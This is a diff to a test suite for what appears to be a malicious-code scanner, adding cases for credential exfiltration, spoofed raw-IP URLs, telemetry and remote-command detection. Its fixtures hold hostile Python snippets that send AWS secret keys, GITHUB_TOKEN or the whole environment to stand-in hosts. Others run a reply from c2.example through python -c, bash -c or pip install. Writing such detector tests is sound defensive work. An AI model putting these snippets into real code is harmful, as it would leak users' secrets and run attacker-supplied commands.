@@ -229,8 +229,12 @@ describe('env-exfil: cloud credentials sent out', () => {
     const signs =
       'import boto3, requests\nfrom botocore.auth import SigV4Auth\ndef call(url, req):\n    creds = boto3.Session().get_credentials()\n' +
       '    SigV4Auth(creds, "execute-api", "eu-west-1").add_auth(req)\n    return requests.get(url, headers=dict(req.headers))\n';
-    expect(hits(signs)).toEqual([]);
-    expect(hits(signs.replace('headers=dict(req.headers)', 'json={"s": creds.secret_key}'))).toHaveLength(1);
+    expect(hits(signs).map((h) => h.severity)).toEqual(['low']);
+    expect(
+      hits(signs.replace('headers=dict(req.headers)', 'json={"s": creds.secret_key}')).map((h) => h.severity),
+    ).toEqual(['medium']);
+    // At import time signing excuses nothing.
+    expect(hits(`${signs}call("u", r)\n`).map((h) => h.severity)).toEqual(['critical']);
   });
   it('does not fire on credentials read and no send in the same body', () => {
     expect(hits('import boto3\ndef t():\n    return boto3.Session().get_credentials()\n')).toEqual([]);
@@ -265,6 +269,8 @@ describe('suspicious-url: a raw IP however it is written', () => {
       'http://3405803786/x',
       'http://0xcb007109/x',
       'http://u:p@45.12.3.4:81',
+      'http://a@pypi.org@45.12.3.4/',
+      'http://127.0.0.1@45.12.3.4/x',
     ])
       expect(hits(url), url).toHaveLength(1);
   });
@@ -273,6 +279,7 @@ describe('suspicious-url: a raw IP however it is written', () => {
       'https://__token__:abc@pypi.example/simple',
       'http://u@127.0.0.1:8080/',
       'https://example.org/12345678901/',
+      'http://2130706433/',
     ])
       expect(hits(url), url).toEqual([]);
   });
@@ -289,6 +296,18 @@ describe('usage telemetry and update checks', () => {
     expect(hits(telemetry('"P_NO_TELEMETRY"'), 'env-exfil')).toEqual([[6, 'low']]);
     expect(hits(telemetry('"DO_NOT_TRACK"'), 'env-exfil')).toEqual([[6, 'low']]);
     expect(hits(telemetry('"P_DEBUG"'), 'env-exfil')).toEqual([[6, 'medium']]);
+    // A switch read and not acted on is no guard.
+    const unused =
+      'import os, socket, requests\ndef send_event():\n    os.getenv("P_TELEMETRY_URL")\n    requests.post("https://t.example/e", json={"h": socket.gethostname()})\n';
+    expect(hits(unused, 'env-exfil')).toEqual([[4, 'medium']]);
+  });
+  it('keeps the environment by name, and a secret gathered after the host name, at medium behind a switch', () => {
+    const byName =
+      'import os, requests\ndef ping():\n    if os.getenv("DO_NOT_TRACK"):\n        return\n    env = dict(os.environ)\n    requests.post("https://t.example/e", json=env)\n';
+    expect(hits(byName, 'env-exfil')).toEqual([[6, 'medium']]);
+    const secret =
+      'import os, socket, requests\ndef ping():\n    if os.getenv("DO_NOT_TRACK"):\n        return\n    host = socket.gethostname()\n    tok = os.getenv("GITHUB_TOKEN")\n    requests.post("https://t.example/e", json={"h": host, "t": tok})\n';
+    expect(hits(secret, 'env-exfil')).toEqual([[7, 'medium']]);
   });
   it('does not excuse the same send at import time, nor the environment or a secret behind a switch', () => {
     expect(hits(`${telemetry('"P_NO_TELEMETRY"')}send_event("start")\n`, 'env-exfil')).toEqual([[6, 'high']]);
@@ -609,5 +628,11 @@ describe('remote-command: a reply run as a command', () => {
       [5, 'high'],
       [6, 'high'],
     ]);
+    // A reply as a whole argument is a command, whatever program is named first.
+    const argv =
+      'import subprocess, sys, requests\ndef poll():\n    r = requests.get("https://c2.example/t")\n    subprocess.run([sys.executable, "-c", r.text])\n' +
+      '    subprocess.run(["/usr/bin/env", "bash", "-c", r.text])\n    subprocess.run([sys.executable, "-m", "pip", "install", r.text])\n' +
+      '    subprocess.run([sys.executable, "-m", "pip", "install", f"{r.text}"])\n';
+    expect(hits(argv).map((h) => h.line)).toEqual([4, 5, 6, 7]);
   });
 });
